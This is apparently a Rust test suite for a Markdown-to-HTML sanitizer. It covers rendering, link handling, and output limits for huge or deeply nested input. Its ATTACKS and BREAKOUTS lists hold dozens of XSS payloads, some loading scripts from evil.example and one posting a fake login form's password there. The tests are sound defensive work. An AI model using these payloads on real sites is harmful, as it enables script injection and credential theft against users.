use super::*;

#[test]
fn what_authors_write_comes_out_as_they_mean_it() {
    for (text, html) in [
        ("Write *every* **day**.", "<p>Write <em>every</em> <strong>day</strong>.</p>\n"),
        ("~~gone~~", "<p><del>gone</del></p>\n"),
        ("```rust\nfn a() {}\n```", "<pre><code>fn a() {}\n</code></pre>\n"),
        ("3. c\n4. d", "<ol start=\"3\">\n<li>c</li>\n<li>d</li>\n</ol>\n"),
        (
            "[us](https://a.example/?b=1&c=2 \"t\")",
            "<p><a href=\"https://a.example/?b=1&amp;c=2\" title=\"t\" \
             rel=\"nofollow noopener ugc\">us</a></p>\n",
        ),
        (
            "![A cat](https://a.example/cat.jpg)",
            "<p><img src=\"https://a.example/cat.jpg\" alt=\"A cat\" loading=\"lazy\"></p>\n",
        ),
        ("", ""),
    ] {
        assert_eq!(to_html(text), html);
    }
    let tasks = to_html("- [x] done\n- [ ] to do");
    assert_eq!(tasks.matches("type=\"checkbox\"").count(), 2, "{tasks}");
    assert_eq!(tasks.matches("disabled").count(), 2, "{tasks}");
    assert_eq!(tasks.matches("checked").count(), 1, "{tasks}");
    let table = to_html("| a | b |\n|---|:-:|\n| 1 | 2 |");
    assert!(table.starts_with("<div class=\"wide\"><table>"), "{table}");
    assert!(table.contains("<td align=\"center\">2</td>"), "{table}");
    let bare = to_html("See https://a.example/x.");
    assert!(bare.contains("<a href=\"https://a.example/x\""), "{bare}");
}

#[test]
fn a_footnote_leads_there_and_back() {
    let html = to_html("A claim.[^1]\n\n[^1]: Its ground.");
    for part in
        ["href=\"#fn-1\"", "id=\"fnref-1\"", "id=\"fn-1\"", "href=\"#fnref-1\"", "aria-label="]
    {
        assert!(html.contains(part), "{part} is missing: {html}");
    }
}

#[test]
fn headings_stand_below_the_title_of_the_page() {
    let html = to_html("# One\n\nTwo\n===\n\n### Three\n\n###### Six\n\n> # Quoted");
    assert!(!html.contains("<h1"), "{html}");
    for part in
        ["<h2>One</h2>", "<h2>Two</h2>", "<h4>Three</h4>", "<h6>Six</h6>", "<h2>Quoted</h2>"]
    {
        assert!(html.contains(part), "{part} is missing: {html}");
    }
}

/// Each of these, or a part of it, would run a script, load something unasked, or change the page around the text
/// if it came through.
const ATTACKS: [&str; 46] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" />",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=\"position:fixed;inset:0\">over all</p>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script>",
    "</article></main><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\u{0}script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x]: javascript:alert(1)\n\n[x] ![x][x]",
];

/// Attributes that want to break out of their quotes.
const BREAKOUTS: [&str; 8] = [
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example \"\\\" onmouseover=alert(1) \\\"\")",
    "![\" onerror=alert(1) \"](https://a.example/x)",
    "![x](https://a.example/x \"' onerror='alert(1)\")",
    "![<table>](https://a.example/x \"<table></table>\")",
    "<https://a.example/\"onclick=alert(1)>",
    "```\"><script>alert(1)</script>\nx\n```",
    "[^\"><script>]\n\n[^\"><script>]: x",
];

#[test]
fn nothing_that_does_harm_comes_through() {
    for attack in ATTACKS.iter().chain(&BREAKOUTS) {
        for text in [
            (*attack).to_owned(),
            format!("before {attack} behind"),
            format!("> - {attack}"),
            format!("| a |\n|---|\n| {attack} |"),
            format!("# {attack}"),
        ] {
            expect_harmless(&text);
        }
    }
}

/// Looks at the elements and attributes that a browser would make of it, with a reader of tags that knows only the
/// strict form in which the cleaner writes.
#[track_caller]
fn expect_harmless(text: &str) {
    let html = to_html(text);
    for tag in tags(&html) {
        let (name, attributes) = &tag;
        assert!(ELEMENTS.contains(&name.as_str()), "<{name}> came of {text:?}: {html}");
        for (attribute, value) in attributes {
            assert!(
                ATTRIBUTES.contains(&attribute.as_str()),
                "{attribute} came of {text:?}: {html}"
            );
            let value = value.replace("&amp;", "&");
            match attribute.as_str() {
                "href" => assert!(is_harmless_link(&value), "{value} came of {text:?}: {html}"),
                "src" => assert!(value.starts_with("http"), "{value} came of {text:?}: {html}"),
                "id" => assert!(value.starts_with("fn"), "{value} came of {text:?}: {html}"),
                _ => {}
            }
        }
    }
}

const ELEMENTS: [&str; 29] = [
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "div",
    "em",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "img",
    "input",
    "li",
    "ol",
    "p",
    "pre",
    "section",
    "strong",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];
const ATTRIBUTES: [&str; 13] = [
    "align",
    "alt",
    "aria-label",
    "checked",
    "class",
    "disabled",
    "href",
    "id",
    "loading",
    "rel",
    "src",
    "title",
    "type",
];

fn is_harmless_link(address: &str) -> bool {
    let scheme = address.split(['/', '?', '#']).next().unwrap_or("").split_once(':');
    // What stands before the colon with anything else in it is no scheme to a browser, but part of a path.
    let is_of_schemes = |c: char| c.is_ascii_alphanumeric() || "+-.".contains(c);
    scheme.is_none_or(|(scheme, _)| {
        ["http", "https", "mailto"].contains(&scheme) || !scheme.chars().all(is_of_schemes)
    })
}

type Tag = (String, Vec<(String, String)>);

fn tags(html: &str) -> Vec<Tag> {
    let mut tags = vec![];
    let mut rest = html;
    while let Some((_, behind)) = rest.split_once('<') {
        rest = behind;
        if let Some(behind) = rest.strip_prefix('/') {
            rest = behind;
            continue;
        }
        let end = rest.find([' ', '>']).expect("a tag that does not end");
        let name = rest[..end].to_owned();
        rest = &rest[end..];
        let mut attributes = vec![];
        while let Some(behind) = rest.strip_prefix(' ') {
            let (attribute, behind) =
                behind.split_once("=\"").expect("an attribute without a value");
            let (value, behind) = behind.split_once('"').expect("a value that does not end");
            attributes.push((attribute.to_owned(), value.to_owned()));
            rest = behind;
        }
        assert!(rest.starts_with('>'), "a tag that does not end: {rest}");
        tags.push((name, attributes));
    }
    tags
}

#[test]
fn every_link_says_that_we_do_not_vouch_for_it() {
    for text in [
        "[a](https://a.example)",
        "<https://a.example>",
        "https://a.example",
        "a@b.example",
        "[a](/b)",
    ] {
        let html = to_html(text);
        assert!(html.contains("rel=\"nofollow noopener ugc\""), "{html}");
    }
}

#[test]
fn tags_are_shown_as_they_were_written() {
    assert_eq!(to_html("a <b>b</b>"), "<p>a &lt;b&gt;b&lt;/b&gt;</p>\n");
    let html = to_html("<div>\n\n*x*\n\n</div>");
    assert!(html.contains("&lt;div&gt;") && html.contains("<em>x</em>"), "{html}");
}

#[test]
fn an_image_from_nowhere_leaves_its_description() {
    for address in ["cat.jpg", "/cat.jpg", "//a.example/cat.jpg", "data:image/png;base64,AAAA"] {
        let html = to_html(&format!("![A cat]({address})"));
        assert!(!html.contains("src") && html.contains("alt=\"A cat\""), "{html}");
    }
}

#[test]
fn what_nests_or_swells_out_of_measure_is_shown_as_it_was_written() {
    let deep = ">".repeat(MAX_DEPTH + 1) + " x";
    let wide = "|".repeat(5000) + "\n" + &"|-".repeat(4999) + "|\n" + &"|a|\n".repeat(1000);
    let links = "[](a)".repeat(5000);
    let escapes = "& ".repeat(20_000);
    for text in [deep, wide, links, escapes] {
        let html = to_html(&text);
        let start: String = html.chars().take(100).collect();
        assert!(html.starts_with("<div class=\"plain\">"), "{start}");
        assert!(html.len() < 6 * text.len() + 64, "{start}");
    }
    assert!(to_html(&(">".repeat(50) + " x")).starts_with("<blockquote>"));
}

#[test]
fn a_text_with_too_many_marks_or_nodes_is_shown_as_it_was_written() {
    let limit = MAX_MARKS / 3;
    assert!(to_html(&"*a\n".repeat(limit / 2)).starts_with("<p>"));
    for text in ["*a\n".repeat(limit + MAX_MARKS), "www.a.b ".repeat(MAX_NODES / 2)] {
        let html = to_html(&text);
        let start: String = html.chars().take(100).collect();
        assert!(html.starts_with("<div class=\"plain\">"), "{start}");
    }
}

#[test]
fn a_text_at_which_the_renderer_panics_is_shown_as_it_was_written() {
    let html = to_html_by(|_| panic!("a fault of the renderer"), "a *b* <c>");
    assert_eq!(html, "<div class=\"plain\">a *b* &lt;c&gt;</div>\n");
}

/// Runs on a thread with half the stack that threads of the services have.
fn on_a_small_stack(work: impl FnOnce() + Send + 'static) {
    let thread = std::thread::Builder::new().stack_size(1 << 20).spawn(work).unwrap();
    thread.join().unwrap();
}

#[test]
fn the_longest_texts_give_bounded_html_on_a_small_stack() {
    const LONGEST: usize = 262_144;
    let quotes = |depth| format!("{}x", "> ".repeat(depth));
    let lists = |depth| {
        let items = (0..depth).map(|depth| format!("{}- a\n", "  ".repeat(depth)));
        items.collect::<String>()
    };
    let mut texts = vec![quotes(LONGEST / 2), quotes(30_000), lists(510), lists(100)];
    for part in ["<", "[", "*", "_", "`", "|", ">", "&", "[^1]", "http://a "] {
        texts.push(part.repeat(LONGEST / part.len()));
        // As much of it as is parsed.
        let marks = part.bytes().filter(is_mark).count();
        texts.push(part.repeat((MAX_MARKS / marks).min(LONGEST / part.len())));
    }
    on_a_small_stack(move || {
        for text in texts {
            let html = to_html(&text);
            assert!(html.len() <= MAX_GROWTH * text.len() + SMALL_BYTES, "{}", &text[..10]);
        }
    });
}

/// Each takes a moment, or this test takes minutes.
#[test]
fn no_text_takes_long() {
    let long = |part: &str| part.repeat(16_384 / part.len());
    for part in [
        ">",
        "> ",
        "- ",
        "1. ",
        "*",
        "_a ",
        "*a **b ",
        "[",
        "]",
        "[a](",
        "![",
        "[a]: b\n",
        "<",
        "&",
        "\"",
        "`",
        "`a``",
        "|",
        "a|\n-|\n",
        "a\n\n",
        "#\n",
        "\\",
        "~~",
        "[^a]",
        "[^a]: b\n",
        "https://",
        "a@b.c ",
        "www.a.b ",
        "<!--",
        "<?",
        "<![CDATA[",
        "<a href=\"",
        "\t",
        "\u{0}",
        "\u{301}",
        "> - ",
        "    ",
        "- a\n\n",
        "![a](b)",
        "***a** b* ",
        "[a][b]",
        "\r",
        ":",
        "- [ ] ",
        "**a*",
        "|a|b\n|-|-\n|",
    ] {
        let html = to_html(&long(part));
        assert!(html.len() <= 8 * 16_384 + SMALL_BYTES, "{part:?}");
    }
}
